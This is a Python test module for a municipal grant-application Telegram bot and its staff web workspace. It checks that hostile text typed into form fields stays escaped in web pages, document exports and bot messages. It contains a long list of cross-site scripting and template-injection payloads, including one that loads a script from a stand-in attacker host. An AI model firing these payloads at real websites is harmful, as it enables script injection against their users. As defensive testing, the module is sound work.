"""Hostile text never becomes markup: typed on the phone, shown in the workspace, exported.

A municipal employee types script tags, event handlers, template syntax, entities and
Telegram-HTML breakers into the draft (name, address, project, Beccaria steps, cost items) and
into questions forwarded to the office; the office answers with a Rückfrage full of the same.
Chromium then visits every page showing them, with the CSP bypassed so that only the escaping
stands between a payload and its execution: nothing runs (no dialog, no `window.__xss`, no
element the templates do not make) and every payload reads exactly as typed. The DOCX, PDF and
JSON exports carry them literally, and Telegram accepted every message the bot sent.
"""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import docx
import pypdf
import pytest
from playwright.sync_api import Browser, Dialog, Page, sync_playwright

from tests.channels.story_helpers import BotProcess, Phone
from tests.fakes.telegram_api import FakeTelegram, SentMessage
from tests.web.conftest import REVIEWER, STAFF_CHAT
from tests.web.test_browser import (
    Reviewer,
    answers,
    hands_in,
    launch_chromium,
    message_with,
    picks,
    starts_a_draft,
)

EMPLOYEE = 5001
ASKER = 5002
FORWARD = "An die Geschäftsstelle weitergeben"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="window.__xss=1">',
    "<svg onload=alert(1)>",
    "<svg><script>window.__xss=1</script></svg>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">Förderlink</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    '";alert(1);//',
    "{{7*7}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp; &quot; &#39; &#x3C;b&#x3E;",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<!-- Kommentar --> <![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<<script>alert(1)//<</script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e>tpircs<",
    "Cafe\u0301 & Söhne 👮",
    "<b>fett</b>",
    "</b>",
    "<b>",
    "&",
    "Müller & Söhne <Verein>",
    '<a href="x">Link</a>',
    '<tg-spoiler>geheim</tg-spoiler> <span class="x">',
    '<pre><code class="language-html">x</code></pre>',
    "<blockquote expandable>Zitat",
]
SHOWN = {
    # Invisible format characters are dropped and umlauts composed when an answer is stored
    # (`bot.drafts.parsing.clean_text`): a zero-width space does not hide a tag from anyone.
    "<scr\u200bipt>alert(1)</scr\u200bipt>": "<script>alert(1)</script>",
    "\u202e>tpircs<": ">tpircs<",
    "Cafe\u0301 & Söhne 👮": "Café & Söhne 👮",
}
QUESTIONS = [  # at most 120 characters: the inbox shows them whole
    "Wie viele Anträge wurden im Landkreis Görlitz abgelehnt und warum genau? "
    '<script>alert(1)</script> </b> & <a href="x">',
    "Wie viele <b>Anträge</b> wurden in Görlitz abgelehnt? <img src=x onerror=alert(1)> "
    "{{7*7}} &amp; </textarea>",
]
RUECKFRAGE = (
    'Bitte <b>Titel</b> prüfen: </b> & <a href="x">Link</a> <script>alert(1)</script> '
    "{{7*7}} &amp; </textarea>"
)
TITLE_V2 = '</textarea></title><script>window.__xss=2</script><b>Sicher & "sauber"'


def shown(payload: str) -> str:
    return SHOWN.get(payload, payload)


# Where the employee types them: one per short answer, the rest spread over the seven steps.
SHORT = [
    "applicant.name",
    "applicant.landkreis",
    "applicant.address.street",
    "applicant.address.city",
    "contact.name",
    "contact.function",
    "project.title",
    "project.place",
    "project.kpr_involvement",
    "project.partners",
    "project.forwarding.recipient",
    "cost_plan.years.0.personnel.0.role",
    "cost_plan.years.0.material.0.item",
    "cost_plan.years.0.material.1.item",
]
STEPS = [f"description.step{n}" for n in range(1, 8)]
TYPED: dict[str, list[str]] = {path: [p] for path, p in zip(SHORT, PAYLOADS, strict=False)}
TYPED |= {path: PAYLOADS[len(SHORT) + n :: len(STEPS)] for n, path in enumerate(STEPS)}


def typed(path: str) -> str:
    return "\n".join(TYPED[path])


def stored(path: str) -> str:
    return "\n".join(shown(p) for p in TYPED[path])


def dig(data: Any, path: str) -> Any:
    for key in path.split("."):
        data = data[int(key)] if isinstance(data, list) else data[key]
    return data


def normal(text: str) -> str:
    """Whitespace as a browser or a document reader may break and collapse it."""
    return " ".join(text.split())


# ---------------------------------------------------------------------------------------------
# The employee on the phone
# ---------------------------------------------------------------------------------------------


def fills_in_hostile_text(phone: Phone) -> None:
    starts_a_draft(phone)
    answers(phone, typed("applicant.name"), "Welche Art von Körperschaft")
    picks(phone, "Stadt", "Landkreis")
    answers(phone, typed("applicant.landkreis"), "Straße und Hausnummer")
    answers(phone, typed("applicant.address.street"), "Postleitzahl")
    answers(phone, "01796", "Ort?")
    answers(phone, typed("applicant.address.city"), "Ansprechperson")
    answers(phone, typed("contact.name"), "Funktion")
    answers(phone, typed("contact.function"), "E-Mail-Adresse")
    answers(phone, "e.muster@pirna.de", "Telefonnummer")
    answers(phone, "03501 556-0", "Pflichtberatung")
    picks(phone, "Ja", "An welchem Tag")
    answers(phone, "12.05.2026", "Titel des Vorhabens")
    answers(phone, typed("project.title"), "Wo findet das Vorhaben statt")
    answers(phone, typed("project.place"), "in Sachsen durchgeführt")
    picks(phone, "Ja", "beginnen")
    answers(phone, "01.03.2027", "enden")
    answers(phone, "31.12.2027", "Präventionsrat")
    answers(phone, typed("project.kpr_involvement"), "Kooperationspartner")
    answers(phone, typed("project.partners"), "weitergeleitet werden")
    picks(phone, "Ja", "An wen wird weitergeleitet")
    answers(phone, typed("project.forwarding.recipient"), "Welcher Betrag")
    answers(phone, "5.000", "Schritt 1")
    for number, path in enumerate(STEPS, start=1):
        then = f"Schritt {number + 1}" if number < len(STEPS) else "Für welches Jahr"
        answers(phone, typed(path), then)
    answers(phone, "2027", "Personalausgaben geplant")
    picks(phone, "Ja", "Bezeichnung der Stelle")
    answers(phone, typed("cost_plan.years.0.personnel.0.role"), "Qualifikation")
    picks(phone, "Hochschule", "Entgeltgruppe")
    answers(phone, "EG 11", "Stellenanteil")
    answers(phone, "0,5", "Personalausgaben für diese Stelle")
    answers(phone, "30.000", "Weitere Stelle")
    picks(phone, "Nein", "Sachausgaben geplant")
    picks(phone, "Ja", "Wofür ist die Sachausgabe")
    answers(phone, typed("cost_plan.years.0.material.0.item"), "Betrag dieses Postens")
    answers(phone, "6.000", "Weiterer Posten")
    picks(phone, "Ja", "Wofür ist die Sachausgabe")
    answers(phone, typed("cost_plan.years.0.material.1.item"), "Betrag dieses Postens")
    answers(phone, "1.000", "Weiterer Posten")
    picks(phone, "Nein", "weiteren Jahr")
    picks(phone, "Nein", "Eigenmittel")


def forwards_a_question(phone: Phone, question: str) -> None:
    """The documents do not answer it (or not surely): one tap passes it to the office."""
    phone.says_until(question, lambda m: FORWARD in m.button_texts, timeout=60)
    (offer,) = [m for m in phone.last if FORWARD in m.button_texts]
    before = len(phone.chat())
    phone.taps(FORWARD, on=offer)
    message_with(phone.fake, phone.user_id, before, "an die Geschäftsstelle")


# ---------------------------------------------------------------------------------------------
# The module's world: one bot, one browser, a draft in two versions, two forwarded questions
# ---------------------------------------------------------------------------------------------


@dataclass
class Watched:
    """A tab with the CSP switched off: only the escaping keeps a payload from running."""

    reviewer: Reviewer
    dialogs: list[str]


@pytest.fixture(scope="module")
def office(bot: BotProcess) -> Iterator[Watched]:
    with sync_playwright() as playwright:
        browser: Browser = launch_chromium(playwright)
        try:
            context = browser.new_context(bypass_csp=True, locale="de-DE")
            reviewer = Reviewer.watching(context.new_page(), bot)
            dialogs: list[str] = []

            def dismiss(dialog: Dialog) -> None:
                dialogs.append(f"{dialog.type}: {dialog.message}")
                dialog.dismiss()

            reviewer.page.on("dialog", dismiss)
            reviewer.signs_in(REVIEWER)
            yield Watched(reviewer, dialogs)
        finally:
            browser.close()


@dataclass(frozen=True)
class Story:
    draft_id: int
    request_ids: list[int]
    rueckfrage: SentMessage


@pytest.fixture(scope="module")
def story(fake: FakeTelegram, bot: BotProcess, office: Watched) -> Story:
    """Version 1 typed on the phone, two questions forwarded, a Rückfrage from the browser
    (typed into its textarea), and version 2 with a new title in answer to it."""
    employee = Phone(fake, bot, EMPLOYEE)
    fills_in_hostile_text(employee)
    draft_id = hands_in(employee)

    asker = Phone(fake, bot, ASKER)
    for question in QUESTIONS:
        forwards_a_question(asker, question)

    page = office.reviewer.page
    office.reviewer.opens(f"/entwuerfe/{draft_id}")
    page.get_by_label("Rückfrage an den Antragsteller").fill(RUECKFRAGE)
    before = len(employee.chat())
    with page.expect_navigation():
        page.get_by_role("button", name="Rückfrage senden").click()
    assert office.reviewer.sees("Status: Rückfrage")
    notice = message_with(fake, EMPLOYEE, before, "Rückfrage der Geschäftsstelle")

    employee.taps("Entwurf bearbeiten", on=notice, replies=2)
    employee.taps("ändern: Vorhaben")
    before = len(employee.chat())
    employee.taps("Titel")
    message_with(fake, EMPLOYEE, before, "Titel des Vorhabens")
    employee.says(TITLE_V2)
    assert hands_in(employee) == draft_id

    page.goto(office.reviewer.base_url + "/")
    links = page.locator("a[href^='/anfragen/']")
    request_ids = sorted(int(str(a.get_attribute("href")).rsplit("/", 1)[1]) for a in links.all())
    assert len(request_ids) == len(QUESTIONS), request_ids
    return Story(draft_id, request_ids, notice)


# ---------------------------------------------------------------------------------------------
# What the office's browser shows
# ---------------------------------------------------------------------------------------------

ALLOWED_TAGS = {
    "a", "article", "aside", "blockquote", "button", "caption", "dd", "del", "div", "dl",
    "dt", "form", "h1", "h2", "h3", "input", "ins", "label", "li", "ol", "option", "p",
    "section", "select", "small", "span", "strong", "table", "tbody", "td", "textarea",
    "tfoot", "th", "thead", "tr", "ul",
}  # fmt: skip
"""Every element the workspace's templates put into <main>; anything else was injected."""

FOREIGN_MARKUP = """() => {
    const found = [];
    for (const el of document.querySelectorAll("*")) {
        for (const attr of el.attributes) {
            if (attr.name.startsWith("on")) found.push(`${el.tagName} ${attr.name}`);
        }
    }
    for (const el of document.querySelectorAll("main *")) found.push(el.tagName.toLowerCase());
    for (const a of document.querySelectorAll("a[href]")) {
        const href = a.getAttribute("href");
        if (!href.startsWith("/") && !href.startsWith("#")) found.push(`a href=${href}`);
    }
    return found;
}"""


def visits(office: Watched, path: str, expected: list[str]) -> None:
    """Open `path`: nothing ran, nothing foreign is in the page, every text reads as typed."""
    reviewer = office.reviewer
    headers = reviewer.opens(path)
    assert "default-src 'none'" in headers.get("content-security-policy", ""), headers
    page: Page = reviewer.page
    assert office.dialogs == [], (path, office.dialogs)
    assert page.evaluate("window.__xss") is None, path
    found = page.evaluate(FOREIGN_MARKUP)
    foreign = sorted({f for f in found if f not in ALLOWED_TAGS})
    assert foreign == [], (path, foreign)
    assert page.title().endswith("– KommPräv-Lotse"), page.title()
    text = normal(page.locator("main").inner_text())
    missing = [e for e in expected if normal(e) not in text]
    assert missing == [], (path, missing)
    assert reviewer.complaints == [], (path, reviewer.complaints)


def version_1_texts() -> list[str]:
    return [shown(p) for p in PAYLOADS]


def test_the_inbox_shows_names_titles_and_questions_as_typed(office: Watched, story: Story) -> None:
    visits(office, "/", [stored("applicant.name"), TITLE_V2, *QUESTIONS])


def test_each_version_of_the_draft_shows_every_payload_as_typed(
    office: Watched, story: Story
) -> None:
    draft = f"/entwuerfe/{story.draft_id}"
    visits(office, f"{draft}?version=1", [*version_1_texts(), RUECKFRAGE])
    # Version 2 differs in the title; the old one stays readable in the list of changes.
    visits(office, f"{draft}?version=2", [*version_1_texts(), TITLE_V2, RUECKFRAGE])
    visits(office, draft, [TITLE_V2])


def test_the_forwarded_questions_read_as_asked(office: Watched, story: Story) -> None:
    for request_id, question in zip(story.request_ids, QUESTIONS, strict=True):
        visits(office, f"/anfragen/{request_id}", [question])


@pytest.mark.parametrize("payload", ['"><script>alert(1)</script>', "</textarea>{{7*7}}"])
def test_a_hostile_search_stays_in_its_field(office: Watched, story: Story, payload: str) -> None:
    visits(office, f"/?q={quote(payload)}", [])
    assert office.reviewer.page.get_by_label("Suche (Kommune oder Titel)").input_value() == payload


def test_a_hostile_return_address_stays_in_the_sign_in_form(office: Watched, story: Story) -> None:
    target = '/"><script>alert(1)</script>'
    visits(office, f"/anmelden?weiter={quote(target)}", [])
    assert office.reviewer.page.locator("input[name=next]").input_value() == target


def test_a_long_changed_value_wraps_inside_the_window(office: Watched, story: Story) -> None:
    office.reviewer.opens(f"/entwuerfe/{story.draft_id}?version=2")
    page = office.reviewer.page
    window = page.evaluate("window.innerWidth")
    assert page.evaluate("document.documentElement.scrollWidth") <= window


# ---------------------------------------------------------------------------------------------
# The exports
# ---------------------------------------------------------------------------------------------


def export(office: Watched, draft_id: int, fmt: str, version: int) -> bytes:
    url = f"{office.reviewer.base_url}/entwuerfe/{draft_id}/export/{fmt}?version={version}"
    response = office.reviewer.page.context.request.get(url)
    assert response.ok, (url, response.status)
    return response.body()


def test_the_json_export_holds_every_answer_exactly(office: Watched, story: Story) -> None:
    first = json.loads(export(office, story.draft_id, "json", 1))
    for path in TYPED:
        assert dig(first, path) == stored(path), path
    second = json.loads(export(office, story.draft_id, "json", 2))
    assert second["project"]["title"] == TITLE_V2
    assert second["applicant"]["name"] == stored("applicant.name")


def test_the_docx_export_shows_every_payload_as_typed(office: Watched, story: Story) -> None:
    document = docx.Document(io.BytesIO(export(office, story.draft_id, "docx", 1)))
    cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
    text = normal("\n".join([*(p.text for p in document.paragraphs), *cells]))
    missing = [p for p in version_1_texts() if normal(p) not in text]
    assert missing == []


def test_the_pdf_export_shows_every_payload_as_typed(office: Watched, story: Story) -> None:
    reader = pypdf.PdfReader(io.BytesIO(export(office, story.draft_id, "pdf", 1)))
    text = "".join("".join(page.extract_text().split()) for page in reader.pages)
    # The PDF's core font covers Windows-1252; any other character prints as "?" (fullwidth
    # brackets, emoji), so those payloads are found in that form. Lines break anywhere.
    printable = [p.encode("cp1252", "replace").decode("cp1252") for p in version_1_texts()]
    missing = [p for p in printable if "".join(p.split()) not in text]
    assert missing == []
    assert "?script?alert(1)?/script?" in text  # the fullwidth payload, recognisably


# ---------------------------------------------------------------------------------------------
# Telegram
# ---------------------------------------------------------------------------------------------


def refused(fake: FakeTelegram, chat_id: int) -> list[str]:
    return [
        f"{c.method} -> HTTP {c.http_status}: {str(c.params.get('text'))[:80]!r}"
        for c in fake.calls()
        if c.params.get("chat_id") == chat_id and c.http_status != 200
    ]


def test_telegram_took_every_message_and_nothing_became_markup(
    fake: FakeTelegram, story: Story
) -> None:
    for chat in (EMPLOYEE, ASKER, STAFF_CHAT):
        assert refused(fake, chat) == [], chat
        messages = fake.sent_messages(chat)
        assert messages, chat
        assert all(m.parse_mode == "HTML" and m.entities == [] for m in messages), chat

    # What the employee typed came back as typed (summaries, the check before handing in).
    seen = "\n".join(m.plain_text or "" for m in fake.sent_messages(EMPLOYEE))
    assert [stored(p) for p in TYPED if stored(p) not in seen] == []
    assert TITLE_V2 in seen

    assert RUECKFRAGE in (story.rueckfrage.plain_text or "")
    assert story.rueckfrage.button_texts == ["Entwurf bearbeiten"]

    staff = "\n".join(m.plain_text or "" for m in fake.sent_messages(STAFF_CHAT))
    for text in (stored("applicant.name"), stored("project.title"), TITLE_V2, *QUESTIONS):
        assert text in staff, text
